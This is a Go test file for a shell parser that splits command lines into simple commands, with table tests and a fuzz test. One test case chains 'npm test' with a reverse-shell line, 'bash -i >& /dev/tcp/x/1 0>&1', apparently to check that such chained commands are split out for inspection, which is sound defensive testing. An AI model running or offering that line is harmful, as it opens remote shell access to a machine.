package shell

import (
	"strings"
	"testing"
)

func TestSimpleCommands(t *testing.T) {
	tests := []struct {
		cmd  string
		want []string // the text of each span; nil: not parsed
	}{
		{"npm test", []string{"npm test"}},
		{"npm test && bash -i >& /dev/tcp/x/1 0>&1", []string{"npm test", "bash -i >& /dev/tcp/x/1 0>&1"}},
		{"! npm test & x=1; export A=1", []string{"npm test", "x=1", "export A=1"}},
		{"a | b; c || d", []string{"a", "b", "c", "d"}},
		{"a $(b; c) `d`", []string{"a $(b; c) `d`", "b", "c", "d"}},
		{"f() { a; }; f", []string{"a", "f"}},
		{"{ a; } > out", []string{"{ a; } > out", "a"}},
		{"> out", []string{"> out"}},
		{"if a; then b; fi", []string{"a", "b"}},
		{"[[ -f x ]] && (( i++ ))", []string{"[[ -f x ]]", "(( i++ ))"}},
		{"time a", []string{"a"}},
		{"sh -c 'a; b'", []string{"sh -c 'a; b'"}},
		{"cat <<EOF\nx\nEOF", []string{"cat <<EOF\nx\nEOF"}},
		{"# only a comment", []string{}},
		{"a '", nil},
		{"a )", nil},
	}
	for _, tt := range tests {
		spans, ok := SimpleCommands(tt.cmd)
		if ok != (tt.want != nil) {
			t.Errorf("SimpleCommands(%q) ok = %v", tt.cmd, ok)
			continue
		}
		got := []string{}
		for _, s := range spans {
			got = append(got, tt.cmd[s.Start:s.End])
		}
		if tt.want != nil && strings.Join(got, "\x00") != strings.Join(tt.want, "\x00") {
			t.Errorf("SimpleCommands(%q) = %q, want %q", tt.cmd, got, tt.want)
		}
	}
	if _, ok := SimpleCommands(strings.Repeat("a;", MaxWords+1)); ok {
		t.Error("more than maxSpans commands reported")
	}
}

func FuzzSimpleCommands(f *testing.F) {
	for _, s := range []string{"npm test && x", "a $(b) `c` <(d)", "{ a; } >f", "f(){ a; }", "cat <<E\nx\nE"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		spans, ok := SimpleCommands(cmd)
		if !ok {
			return
		}
		for _, s := range spans {
			if s.Start < 0 || s.End > len(cmd) || s.Start > s.End {
				t.Fatalf("SimpleCommands(%q): span %v out of range", cmd, s)
			}
		}
	})
}
